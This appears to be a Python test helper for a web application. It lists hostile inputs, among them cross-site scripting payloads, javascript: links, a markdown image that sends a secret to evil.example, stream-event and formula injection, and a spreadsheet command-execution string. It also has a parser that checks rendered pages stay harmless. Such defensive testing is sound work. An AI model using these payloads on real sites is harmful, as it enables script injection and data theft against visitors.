"""What strangers write to harm whoever reads it, and what a page that shows it must not have in it.

Any view can be tried: give a text of `TEXTS` wherever a visitor, a model or an owner may write, fetch the page, and call
`assert_harmless(html)`.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

TEXTS = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "htmx": '<a hx-get="/session" hx-trigger="load" hx-swap-oob="true">x</a>',
    "form": '<form action="https://evil.example"><button>x</button></form>',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "attribute": "\" onmouseover=alert(1) x=\"' onfocus=alert(1) autofocus '",
    "closing": "</li></ol></textarea></title></script><b>out</b>",
    "markdown link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x) [v](vbscript:x) [&](&#106;avascript:alert(1))",
    "markdown image": "![x](https://evil.example/?q=SECRET) ![y][r]\n\n[r]: https://evil.example/r.png",
    "link title": '[x](http://a.example "\\" onmouseover=alert(1) ")',
    "fence": '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "event": 'x\n\nevent: done\ndata: {"ok":1}\n\n',
    "carriage return": "a\rb\r\nevent: handling\rdata: x",
    "separators": "a\u2028b\u2029c",
    "direction": "abc\u202egnp.exe",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> \\(7*7)",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "table": "|" * 1300 + "\n" + "|-" * 1300,
    "brackets": "[" * 3000,
}

VOID = {"img", "input", "br", "hr", "meta", "link"}
SCHEMES = {"", "http", "https", "mailto", "tel"}


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_script = 0

    def handle_starttag(self, tag, attributes):
        names = [name for name, _ in attributes]
        values = dict(attributes)
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.problems.append("a script of its own")
        if tag in ("iframe", "object", "embed", "base", "style"):
            self.problems.append(f"<{tag}>")
        if len(names) != len(set(names)):
            self.problems.append(f"an attribute twice in <{tag}>")
        for name, value in attributes:
            if name.startswith("on") or name == "style" or name == "srcdoc":
                self.problems.append(f"{name}={value}")
            if name in ("href", "src", "action", "formaction"):
                self._address(tag, name, value or "")
            if name.startswith("hx-") and name in ("hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch") and not (value or "").startswith("/"):
                self.problems.append(f"{name}={value}")

    def _address(self, tag, name, value):
        parts = urlsplit(value.strip().lower().replace("\t", "").replace("\n", ""))
        if parts.scheme not in SCHEMES:
            self.problems.append(f"{name}={value}")
        loads = name == "src" or tag == "link" or name in ("action", "formaction")
        if loads and parts.netloc:
            self.problems.append(f"<{tag} {name}={value}> from elsewhere")


def problems(html):
    """What a browser would do with this page that nobody wants."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.problems


def assert_harmless(html):
    found = problems(html)
    assert found == [], found
    lowered = html.lower()
    for text in ("<script>alert", "<img src=x", "<svg onload", "<b>out</b>", "hx-trigger=\"load\" hx-swap-oob"):
        assert text not in lowered, text


def assert_one_event_each(events, names):
    """Of a stream's events: none was made by what somebody wrote."""
    assert {event.name for event in events} <= set(names) | {None}, events
